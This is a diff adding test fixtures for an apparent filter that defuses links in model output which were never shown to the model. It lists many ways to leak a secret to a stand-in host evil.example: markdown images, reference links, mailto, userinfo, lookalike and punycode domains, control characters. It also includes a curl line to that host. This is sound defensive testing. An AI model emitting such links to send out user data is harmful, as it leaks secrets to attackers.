@@ -111,3 +111,75 @@ PIECES = (
     f"[https://bank.example]({EVIL})", f"![x]({EVIL})", "[1]", "py\n", "@", "'",
 )  # fmt: skip
 """What answers are put together from to find one that slips through."""
+
+SECRET = "S3CRET"
+CARRIERS = {
+    # an address that nobody showed
+    f"At https://evil.example/?q={SECRET} now.": f"At `https://evil.example/?q={SECRET}` now.",
+    f"(HTTPS://evil.example/{SECRET}).": f"(`HTTPS://evil.example/{SECRET}`).",
+    f"http://{SECRET}.evil.example": f"`http://{SECRET}.evil.example`",
+    f"www.evil.example/{SECRET}, evil.example/{SECRET}": (
+        f"`www.evil.example/{SECRET}`, `evil.example/{SECRET}`"
+    ),
+    f"ftp://evil.example/{SECRET}": f"`ftp://evil.example/{SECRET}`",
+    f"mailto:eve@evil.example?body={SECRET}": f"`mailto:eve@evil.example?body={SECRET}`",
+    f"**https://evil.example/{SECRET}**": f"**`https://evil.example/{SECRET}`**",
+    f"<https://evil.example/{SECRET}>": f"`https://evil.example/{SECRET}`",
+    f"<slack://evil/{SECRET}>": f"`slack://evil/{SECRET}`",
+    # a link, an image, a link by reference
+    f"[here](https://evil.example/?q={SECRET})": f"[here] (`https://evil.example/?q={SECRET}`)",
+    f"[here](<https://evil.example/{SECRET}>)": f"[here] (`https://evil.example/{SECRET}`)",
+    f'[here](https://evil.example/{SECRET} "title")': (
+        f'[here] (`https://evil.example/{SECRET}` "title")'
+    ),
+    f"[here](\nhttps://evil.example/{SECRET})": f"[here] (\n`https://evil.example/{SECRET}`)",
+    f"[here](//evil.example/{SECRET})": f"[here] (`//evil.example/{SECRET}`)",
+    f"![](https://evil.example/{SECRET})": f"[image] (`https://evil.example/{SECRET}`)",
+    f"![a cat][1]\n\n[1]: https://evil.example/{SECRET}": (
+        f"[a cat][1]\n\n[1] : `https://evil.example/{SECRET}`"
+    ),
+    f'<img src="https://evil.example/{SECRET}">': f'< img src="`https://evil.example/{SECRET}`">',
+    # one that looks like an address that was shown
+    "https://ok.example/A": "`https://ok.example/A`",
+    "https://ok.example/%61": "`https://ok.example/%61`",
+    "https://ok.example/a/": "`https://ok.example/a/`",
+    f"https://ok.example/a?{SECRET}": f"`https://ok.example/a?{SECRET}`",
+    f"https://ok.example/a#{SECRET}": f"`https://ok.example/a#{SECRET}`",
+    f"https://{SECRET}@ok.example/a": f"`https://{SECRET}@ok.example/a`",
+    f"https://ok.example:8{SECRET}/a": f"`https://ok.example:8{SECRET}/a`",
+    "https://xn--k-xfa.example/a": "`https://xn--k-xfa.example/a`",
+    "https://оk.example/a": "`https://оk.example/a`",
+    # where code is not certain, it is taken apart
+    f"x ` y `https://evil.example/{SECRET}` z": f"x ` y `https: //evil.example /{SECRET}` z",
+    f"https://ok.example/a`{SECRET}`": f"https: //ok.example /a`{SECRET}`",
+    f"https://evil.example/[{SECRET}]": f"https: //evil.example /[{SECRET}]",
+    f"<b x https://evil.example/{SECRET}": f"< b x `https://evil.example/{SECRET}`",
+    # control characters, which are removed later
+    f"https\x07://evil.example/{SECRET}": f"`https://evil.example/{SECRET}`",
+    # a citation in it, which may be removed later
+    f"https:[9]//evil.example/{SECRET}": f"https: [9]`//evil.example/{SECRET}`",
+}
+"""What a model writes that was shown `LINKS_SHOWN`, and what is shown of it."""
+LINKS_SHOWN = (
+    "The page https://ok.example/a, (https://ok.example/b?x=1&y=2) and [this](https://ok.example/c_d)."
+    ' docs.example/guide, {"url": "https://ok.example/e"}; http://plain.example, eve@ok.example,'
+    " https://bücher.example/ü"
+)
+HARMLESS = (
+    "See https://ok.example/a, https://ok.example/a. And (https://ok.example/b?x=1&y=2)!",
+    "HTTPS://OK.example/a and <https://ok.example/a>",
+    "[a](https://ok.example/c_d) and [that](<https://ok.example/e>), [x](https://ok.example/a 't')",
+    "docs.example/guide, https://docs.example/guide, http://plain.example/ and plain.example",
+    "[write](mailto:eve@ok.example)",
+    "https://xn--bcher-kva.example/%C3%BC and https://bücher.example/ü",
+    "`https://evil.example/x`",
+    "```\ncurl https://evil.example/x\n```\n",
+    "and/or, 12:30, e.g. this, config.yaml, a[0], list: [x], 3 < 4, **bold**, C:\\x, f(x): y",
+)
+"""What stays as it is."""
+CARRYING_PIECES = (
+    *PIECES, f"https://evil.example/{SECRET}", f"www.evil.example/{SECRET}", "https://ok.example/a",
+    f"](https://evil.example/{SECRET})", "](https://ok.example/a)", f"?{SECRET}", "https", ":",
+    f"evil.example/{SECRET}", ".", "/", "\u200b", "\x07", "([", "<https:", "ü", "http://", "_",
+    "[9]", "//",
+)  # fmt: skip
